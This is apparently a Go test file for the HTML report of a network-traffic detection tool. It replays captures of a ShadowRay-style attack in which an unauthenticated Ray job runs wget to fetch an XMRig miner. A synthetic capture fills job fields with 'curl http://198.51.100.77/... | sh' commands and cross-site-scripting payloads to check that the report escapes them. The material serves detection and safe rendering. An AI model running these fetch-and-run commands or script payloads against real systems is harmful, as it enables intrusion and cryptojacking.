package report_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcapgo"
	"golang.org/x/net/html"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/engine"
	"github.com/raytap/raytap/registry"
	"github.com/raytap/raytap/sinks/report"
	"github.com/raytap/raytap/sinks/zeek"
)

// replay writes the logs of a capture.
func replay(t testing.TB, file, format string) string {
	t.Helper()
	src, err := capture.OpenFile(file)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	dir := t.TempDir()
	logs, err := zeek.New(dir, zeek.Options{Format: format, Rules: registry.Rules()})
	if err != nil {
		t.Fatal(err)
	}
	stats, err := engine.Run(context.Background(), engine.Default(), src, logs)
	if err != nil {
		t.Fatal(err)
	}
	if err := logs.Close(stats.Last); err != nil {
		t.Fatal(err)
	}
	return dir
}

func read(t testing.TB, dir string) *report.Report {
	t.Helper()
	home, err := detectors.ParseNetworks(detectors.DefaultHome)
	if err != nil {
		t.Fatal(err)
	}
	r, err := report.Read(report.Options{Source: "x.pcap", Home: home}, dir)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func page(t testing.TB, r *report.Report) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := r.HTML(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var space = regexp.MustCompile(`\s+`)

// words gives the text of a page as a reader has it, without style and script.
func words(t testing.TB, page []byte) string {
	t.Helper()
	var b strings.Builder
	z := html.NewTokenizer(bytes.NewReader(page))
	skip := false
	for {
		switch z.Next() {
		case html.ErrorToken:
			return space.ReplaceAllString(b.String(), " ")
		case html.StartTagToken, html.EndTagToken:
			tok := z.Token()
			if tok.Data == "style" || tok.Data == "script" {
				skip = tok.Type == html.StartTagToken
			}
			b.WriteByte(' ')
		case html.TextToken:
			if !skip {
				b.WriteString(z.Token().Data)
			}
		}
	}
}

func TestReportTellsTheAttack(t *testing.T) {
	got := page(t, read(t, replay(t, "../../pcaps/shadowray.pcap.gz", zeek.TSV)))
	text := words(t, got)
	for _, want := range []string{
		"Yes: we were hit.",
		"On 23 November 2026 at 16:42:37 UTC, 203[.]0[.]113[.]66 ran a job on 10.20.0.10:8265 (wget -q hxxp://198[.]51[.]100[.]77/",
		"A chain of cause: 203[.]0[.]113[.]66 → 10.20.0.10",
		"Request: hxxp://198[.]51[.]100[.]77/xmrig-6.21.0-linux-static-x64.tar.gz, answer 200, 300 kB.",
		"7 jobs, 11 shares, of which the pool accepted 11.",
		"open: answered 1 call from outside without a credential",
		"pool[.]supportxmr[.]com",
		"AML.T0049 Exploit Public-Facing Application", "T1496.001",
		"packets 10, 12",
		"Nothing was lost between the capture and the decoders.",
		"50 % of the TCP flows began before the capture",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
	for _, role := range []string{"attacker", "Ray head", "Ray node", "mining pool", "payload host"} {
		if !strings.Contains(string(got), `<text class="role"`) || !strings.Contains(text, role) {
			t.Errorf("the graph has no %s", role)
		}
	}
	// Evidence is as it was on the wire; everything else cannot be clicked.
	if !strings.Contains(text, "wget -q http://198.51.100.77/xmrig") {
		t.Error("the entrypoint is not there as it was")
	}
	if bytes.Contains(got, []byte("href=\"http")) || bytes.Contains(got, []byte("src=")) {
		t.Error("the page has a link to elsewhere")
	}
}

// Logs of a run that knows no incidents, or has lost them, tell the same out of findings and calls.
func TestReportWithoutIncidents(t *testing.T) {
	dir := replay(t, "../../pcaps/shadowray.pcap.gz", zeek.TSV)
	if err := os.Remove(filepath.Join(dir, "incidents.log")); err != nil {
		t.Fatal(err)
	}
	text := words(t, page(t, read(t, dir)))
	for _, want := range []string{
		"Yes: we were hit.",
		"On 23 November 2026 at 16:42:37 UTC, 203[.]0[.]113[.]66 ran a job on the Ray cluster at 10.20.0.10:8265: wget -q hxxp://198[.]51[.]100[.]77/",
		"payload host",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
	if strings.Contains(text, "Incidents") {
		t.Error("the page has incidents")
	}
}

func TestBothFormsGiveTheSameReport(t *testing.T) {
	const file = "../../pcaps/shadowray.pcap.gz"
	a := page(t, read(t, replay(t, file, zeek.TSV)))
	r := read(t, replay(t, file, zeek.JSON))
	b := page(t, r)
	if !bytes.Equal(a, b) {
		t.Error("the report of JSON logs differs from that of tab-separated ones")
	}
	if !bytes.Equal(b, page(t, r)) {
		t.Error("writing a report changes it")
	}
}

func TestBenignTrafficIsNoAttack(t *testing.T) {
	for _, name := range []string{"benign-operations", "benign-lookalikes", "benign-transfers"} {
		text := words(t, page(t, read(t, replay(t, "../../pcaps/"+name+".pcap.gz", zeek.TSV))))
		if !strings.Contains(text, "No attack was seen.") || strings.Contains(text, "we were hit") {
			t.Errorf("%s: wrong verdict", name)
		}
	}
}

func TestAnAttemptIsNoHit(t *testing.T) {
	text := words(t, page(t, read(t, replay(t, "../../pcaps/attack-browser.pcap.gz", zeek.TSV))))
	if !strings.Contains(text, "Attacked, but no success was seen.") {
		t.Error("wrong verdict")
	}
}

// TestPolicyNamesWhatIsThere: a browser runs the script and takes the style only if these are the hashes of both.
func TestPolicyNamesWhatIsThere(t *testing.T) {
	got := string(page(t, read(t, replay(t, "../../pcaps/mining-xmrig.pcap.gz", zeek.TSV))))
	for _, tag := range []string{"style", "script"} {
		_, rest, _ := strings.Cut(got, "<"+tag+">")
		text, _, ok := strings.Cut(rest, "</"+tag+">")
		sum := sha256.Sum256([]byte(text))
		want := tag + "-src &#39;sha256-" + strings.ReplaceAll(base64.StdEncoding.EncodeToString(sum[:]), "+", "&#43;") + "&#39;"
		if !ok || !strings.Contains(got, want) {
			t.Errorf("the policy does not have %s", want)
		}
	}
	if !strings.Contains(got, "default-src &#39;none&#39;") {
		t.Error("the policy allows something by default")
	}
}

// What a page of ours is made of.
var (
	allowedTags = map[string]bool{}
	allowedAttr = map[string]bool{}
)

func init() {
	for s := range strings.FieldsSeq(`html head meta title style body a header div p span dl dt dd nav ul li main section h1 h2 h3 h4 ol
		time button svg desc defs marker path rect text g details summary table thead tbody tr th td caption line form label input select
		option fieldset legend pre footer script article code br`) {
		allowedTags[s] = true
	}
	for s := range strings.FieldsSeq(`lang charset http-equiv content name class id href aria-labelledby aria-label aria-sort role tabindex
		type data-copy data-key data-label data-sev data-name data-time data-rule data-outcome data-conf value checked placeholder autocomplete
		spellcheck scope open hidden viewbox width height refx refy markerwidth markerheight markerunits orient d stroke-width marker-end x y dx
		dy rx x1 x2 y1 y2 text-anchor preserveaspectratio`) {
		allowedAttr[s] = true
	}
}

func checkTags(t *testing.T, page []byte) {
	t.Helper()
	z := html.NewTokenizer(bytes.NewReader(page))
	scripts := 0
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			break
		}
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if !allowedTags[tok.Data] {
			t.Errorf("a tag that is none of ours: %s", tok)
		}
		if tok.Data == "script" {
			scripts++
		}
		for _, a := range tok.Attr {
			if !allowedAttr[a.Key] {
				t.Errorf("an attribute that is none of ours: %s", tok)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "#") {
				t.Errorf("a link to elsewhere: %s", tok)
			}
		}
	}
	if scripts != 1 {
		t.Errorf("%d scripts", scripts)
	}
}

// markup is what somebody puts into everything that a report may show. Each would set window.pwned in one of the
// places where text of a page can stand.
var markup = []string{
	`</script><script>window.pwned=1</script>`,
	`"><img src=x onerror="window.pwned=1">`,
	`'><svg onload='window.pwned=1'>`,
	`</pre></title></style><iframe src="javascript:parent.pwned=1"></iframe>`,
	`{{.Title}}<!--`,
	"`;window.pwned=1;//",
}

// hostile writes a capture of a job whose every text is markup, with look-ups of names that are, too.
func hostile(t testing.TB) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "hostile.pcap")
	file, err := os.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	w := pcapgo.NewWriter(file)
	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		t.Fatal(err)
	}
	at := time.Unix(1700000000, 0).UTC()
	frame := func(l ...gopacket.SerializableLayer) {
		buf := gopacket.NewSerializeBuffer()
		if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, l...); err != nil {
			t.Fatal(err)
		}
		at = at.Add(time.Millisecond)
		if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: at, CaptureLength: len(buf.Bytes()), Length: len(buf.Bytes())}, buf.Bytes()); err != nil {
			t.Fatal(err)
		}
	}
	eth := &layers.Ethernet{SrcMAC: net.HardwareAddr{2, 0, 0, 0, 0, 1}, DstMAC: net.HardwareAddr{2, 0, 0, 0, 0, 2}, EthernetType: layers.EthernetTypeIPv4}
	ip := func(src, dst string, proto layers.IPProtocol) *layers.IPv4 {
		return &layers.IPv4{Version: 4, TTL: 64, Protocol: proto, SrcIP: net.ParseIP(src), DstIP: net.ParseIP(dst)}
	}
	port := 40000
	// exchange is a connection with one request and one answer.
	exchange := func(src, dst string, dport int, request, answer string) {
		port++
		c, s := uint32(1000), uint32(5000)
		send := func(out, syn, fin bool, data string) {
			tcp := &layers.TCP{SrcPort: layers.TCPPort(port), DstPort: layers.TCPPort(dport), Seq: c, Ack: s, SYN: syn, FIN: fin, ACK: !syn || !out, PSH: data != "", Window: 65000}
			from := ip(src, dst, layers.IPProtocolTCP)
			if !out {
				tcp.SrcPort, tcp.DstPort, tcp.Seq, tcp.Ack = tcp.DstPort, tcp.SrcPort, s, c
				from = ip(dst, src, layers.IPProtocolTCP)
			}
			tcp.SetNetworkLayerForChecksum(from)
			frame(eth, from, tcp, gopacket.Payload(data))
			n := uint32(len(data))
			if syn || fin {
				n++
			}
			if out {
				c += n
			} else {
				s += n
			}
		}
		send(true, true, false, "")
		send(false, true, false, "")
		send(true, false, false, "")
		send(true, false, false, request)
		send(false, false, false, answer)
		send(true, false, true, "")
		send(false, false, true, "")
		send(true, false, false, "")
	}
	message := func(head, body string) string {
		return fmt.Sprintf("%s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", head, len(body), body)
	}
	all := strings.Join(markup, " ")
	for i, m := range markup {
		job := fmt.Sprintf(`{"entrypoint":%q,"submission_id":%q,"runtime_env":{"working_dir":%q}}`, "curl http://198.51.100.77/"+m+" | sh; "+all, "id"+m, "http://198.51.100.77/"+m+".zip")
		exchange(fmt.Sprintf("203.0.113.%d", 60+i), "10.20.0.10", 8265,
			message("POST /api/jobs/ HTTP/1.1\r\nHost: "+m+":8265\r\nUser-Agent: "+m, job),
			message("HTTP/1.1 200 OK\r\nServer: "+m, fmt.Sprintf(`{"job_id":%q,"submission_id":%q}`, "raysubmit_"+m, "raysubmit_"+m)))
	}
	exchange("10.20.0.10", "198.51.100.77", 80, "GET /"+strings.ReplaceAll(all, " ", "+")+" HTTP/1.1\r\nHost: 198.51.100.77\r\nUser-Agent: "+all+"\r\n\r\n",
		"HTTP/1.1 200 "+all+"\r\nContent-Length: 2\r\n\r\nok")
	// A miner whose every text is markup, at a pool whose name is.
	exchange("10.20.0.10", "198.51.100.44", 3333,
		fmt.Sprintf(`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":%q,"pass":"x","agent":%q,"algo":["rx/0"]}}`+"\n", all, "XMRig/"+all),
		`{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"blob":"`+strings.Repeat("10", 76)+`","job_id":"1","target":"b88d0600","height":1,"seed_hash":"`+strings.Repeat("ab", 32)+`"},"status":"OK"}}`+"\n")
	for i, m := range markup {
		udp := &layers.UDP{SrcPort: layers.UDPPort(50000 + i), DstPort: 53}
		ask := ip("10.20.0.10", "10.20.0.53", layers.IPProtocolUDP)
		udp.SetNetworkLayerForChecksum(ask)
		label := strings.ReplaceAll(m, ".", "")
		label = label[:min(len(label), 60)]
		frame(eth, ask, udp, &layers.DNS{ID: uint16(i), RD: true, Questions: []layers.DNSQuestion{{Name: []byte(label + ".oast.fun"), Type: layers.DNSTypeA, Class: layers.DNSClassIN}}})
		answer := ip("10.20.0.53", "10.20.0.10", layers.IPProtocolUDP)
		back := &layers.UDP{SrcPort: 53, DstPort: layers.UDPPort(50000 + i)}
		back.SetNetworkLayerForChecksum(answer)
		question := layers.DNSQuestion{Name: []byte(label + ".oast.fun"), Type: layers.DNSTypeA, Class: layers.DNSClassIN}
		frame(eth, answer, back, &layers.DNS{ID: uint16(i), QR: true, RD: true, RA: true, Questions: []layers.DNSQuestion{question},
			Answers: []layers.DNSResourceRecord{{Name: question.Name, Type: layers.DNSTypeA, Class: layers.DNSClassIN, TTL: 60, IP: net.IPv4(198, 51, 100, 44)}}})
	}
	return name
}

func TestTextFromTheWireIsNoMarkup(t *testing.T) {
	r := read(t, replay(t, hostile(t), zeek.JSON))
	if len(r.Findings) < len(markup) {
		t.Fatalf("%d findings of a capture made to have many", len(r.Findings))
	}
	got := page(t, r)
	checkTags(t, got)
	text := words(t, got)
	for _, m := range markup[:2] {
		if !strings.Contains(text, m) {
			t.Errorf("%s is not there as text: the capture does not test what it is for", m)
		}
	}
	checkTags(t, page(t, read(t, replay(t, "../../pcaps/attack-cves.pcap.gz", zeek.TSV))))
}

// many writes the logs of flows to as many destinations, with findings over them.
func many(t testing.TB, flows, findings int) string {
	t.Helper()
	dir := t.TempDir()
	sink, err := zeek.New(dir, zeek.Options{Rules: registry.Rules()})
	if err != nil {
		t.Fatal(err)
	}
	const start = capture.Time(1700000000e9)
	addr := func(i int) netip.Addr { return netip.AddrFrom4([4]byte{100, 128 + byte(i>>16), byte(i >> 8), byte(i)}) }
	flow := func(i int) *capture.Flow {
		return &capture.Flow{
			UID: capture.NewUID('C', fmt.Append(nil, i)), Start: start + capture.Time(i)*1e7, Proto: capture.ProtoTCP,
			Orig: netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 0, byte(i % 7), byte(i % 251)}), uint16(i)), Resp: netip.AddrPortFrom(addr(i), 443),
		}
	}
	rules := registry.Rules()
	for i := range flows {
		f := flow(i)
		sink.Event(&capture.Conn{At: capture.At{Time: f.Start}, Flow: f, Duration: time.Duration(i%1000) * time.Second, Bytes: [2]uint64{uint64(i), 500}, State: "SF", History: "ShADadFf", Services: []string{"ssl"}})
		if i < findings {
			sink.Event(&detectors.Finding{
				At: capture.At{Time: f.Start, Packet: uint64(i)}, Rule: rules[i%len(rules)].Name, Severity: detectors.Severity(i % 5), Confidence: i % 100, Outcome: detectors.Succeeded,
				Msg: fmt.Sprintf("%s did something to %s: %s", f.Orig, f.Resp, strings.Repeat("<&> ", 60)), Src: f.Orig.Addr(), Dst: f.Resp.Addr(), Port: 443, Flow: f, Count: 1,
				Evidence: []detectors.Evidence{{Field: "entrypoint", Value: fmt.Sprintf("curl http://h%d.example.com/ ", i) + strings.Repeat("\"'<&", 250), Packet: uint64(i)}},
			})
		}
	}
	if err := sink.Close(start); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestReportOfManyFlowsIsSmall(t *testing.T) {
	r := read(t, many(t, 100_000, 15_000))
	got := page(t, r)
	t.Logf("%d bytes", len(got))
	if len(got) > 5_000_000 {
		t.Errorf("%d bytes", len(got))
	}
	checkTags(t, got)
	text := words(t, got)
	for _, want := range []string{"100,000 flows", "15,000 findings", "findings of lesser severity are left out", "lesser steps are left out", "hosts of less weight left out"} {
		if !strings.Contains(text, want) && !strings.Contains(text, strings.Join(strings.Fields(want)[1:], " ")) {
			t.Errorf("the page does not say %q", want)
		}
	}
}

func TestNoLogsNoReport(t *testing.T) {
	if _, err := report.Read(report.Options{}, t.TempDir()); err == nil {
		t.Error("a report of nothing")
	}
	if _, err := report.Read(report.Options{}, filepath.Join(t.TempDir(), "none")); err == nil {
		t.Error("a report of a folder that is not there")
	}
}

// Logs that end within a row, as after a power cut, and logs that somebody has broken.
func TestDamagedLogs(t *testing.T) {
	dir := replay(t, "../../pcaps/shadowray.pcap.gz", zeek.TSV)
	b, err := os.ReadFile(filepath.Join(dir, "notice.log"))
	if err != nil {
		t.Fatal(err)
	}
	cut := bytes.LastIndexByte(b[:len(b)-100], '\t')
	if err := os.WriteFile(filepath.Join(dir, "notice.log"), b[:cut], 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "conn.log"), []byte("no header\n\x00\xff\t\n{\"ts\":\n{\"ts\":1e99,\"duration\":-5,\"id.orig_h\":7,\"orig_bytes\":\"x\"}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r, want := read(t, dir), bytes.Count(b, []byte("\n"))-9-1-1 // header and end; the last row is cut, and another says more of one
	if r.Damaged != 4 || len(r.Findings) != want {
		t.Errorf("%d damaged lines, %d findings, want %d", r.Damaged, len(r.Findings), want)
	}
	if text := words(t, page(t, r)); !strings.Contains(text, "4 lines of the logs could not be read.") {
		t.Error("the page does not say that lines were damaged")
	}
}

// TestWhatWasCutIsNoIndicator: an excerpt may end in the middle of a name, and half of it may be somebody else's.
func TestWhatWasCutIsNoIndicator(t *testing.T) {
	dir := t.TempDir()
	logs, err := zeek.New(dir, zeek.Options{Rules: registry.Rules()})
	if err != nil {
		t.Fatal(err)
	}
	logs.Event(&detectors.Finding{
		At: capture.At{Time: 1e18, Packet: 1}, Rule: "jobsubmit/dropper", Severity: detectors.Critical, Src: netip.MustParseAddr("203.0.113.66"), Dst: netip.MustParseAddr("10.0.0.1"),
		Evidence: []detectors.Evidence{
			{Field: "entrypoint", Value: "curl http://whole.example.net/a; curl " + detectors.Clip("http://drop.example.community/x", len("http://drop.example.com"))},
			{Field: "server name", Value: "pool.example.org"},
		},
	})
	if err := logs.Close(1e18); err != nil {
		t.Fatal(err)
	}
	have := map[string]bool{}
	for _, i := range read(t, dir).Indicators() {
		have[i.Value] = true
	}
	if len(have) != 3 || !have["203.0.113.66"] || !have["http://whole.example.net/a"] || !have["pool.example.org"] {
		t.Errorf("%v", have)
	}
}
